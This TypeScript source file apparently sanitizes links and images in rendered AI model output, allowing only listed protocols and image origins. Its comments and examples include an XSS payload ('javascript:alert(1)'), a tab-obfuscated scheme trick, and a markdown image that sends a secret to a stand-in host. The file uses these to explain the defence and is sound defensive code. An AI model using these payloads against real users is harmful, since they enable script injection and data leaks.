/** Protocols that links may use unless the caller configures otherwise. */
export const DEFAULT_LINK_PROTOCOLS: readonly string[] = ['http:', 'https:', 'mailto:'];

/** The `rel` every rendered link carries. */
export const LINK_REL = 'noopener noreferrer nofollow';

/**
 * Which URLs model output may point at. Links to other protocols render as their text; images from
 * other origins render as a placeholder and load nothing.
 */
export interface UrlPolicy {
  /** Protocols allowed in links, with the colon. Default: `http:`, `https:`, `mailto:`. */
  readonly linkProtocols?: readonly string[];
  /**
   * Origins images may load from, such as `https://images.example.com`. Default: none, so no
   * image in model output loads anything.
   */
  readonly imageOrigins?: readonly string[];
}

// Browsers drop ASCII whitespace and control characters inside a scheme, so `java\tscript:` runs.
// biome-ignore lint/suspicious/noControlCharactersInRegex: stripping control characters is the point
const IGNORED_IN_SCHEME = /[\u0000-\u0020\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\ufeff]/g;

function parseAbsolute(raw: string): URL | undefined {
  const cleaned = raw.replace(IGNORED_IN_SCHEME, '');
  // Protocol-relative (`//host`) and its backslash variants take the page's protocol: reject.
  if (/^[\\/]{2}/.test(cleaned)) return undefined;
  // An absolute URL starts with a scheme; anything else would resolve against the page.
  if (!/^[a-z][a-z0-9+.-]*:/i.test(cleaned)) return undefined;
  try {
    return new URL(cleaned);
  } catch {
    return undefined;
  }
}

/**
 * Whether a link target is safe to render: absolute, with an allowed protocol, and not
 * protocol-relative. Control characters and whitespace that browsers strip are removed before
 * the scheme is read, so `java\tscript:` and `JaVaScRiPt:` are both rejected.
 *
 * @example
 * ```ts
 * isAllowedLink('https://ably.com'); // true
 * isAllowedLink('javascript:alert(1)'); // false
 * ```
 */
export function isAllowedLink(href: string, protocols: readonly string[] = DEFAULT_LINK_PROTOCOLS): boolean {
  const url = parseAbsolute(href);
  if (!url) return false;
  return protocols.includes(url.protocol.toLowerCase());
}

/**
 * Whether an image may load: an absolute `http(s)` URL whose origin is in `origins`. With the
 * default (no origins) nothing loads, so `![](https://evil.example/?q=secret)` leaks nothing.
 *
 * @example
 * ```ts
 * isAllowedImage('https://img.example/a.png', ['https://img.example']); // true
 * isAllowedImage('https://evil.example/?q=secret'); // false
 * ```
 */
export function isAllowedImage(src: string, origins: readonly string[] = []): boolean {
  if (origins.length === 0) return false;
  const url = parseAbsolute(src);
  if (!url || (url.protocol !== 'https:' && url.protocol !== 'http:')) return false;
  return origins.some((origin) => origin === url.origin);
}
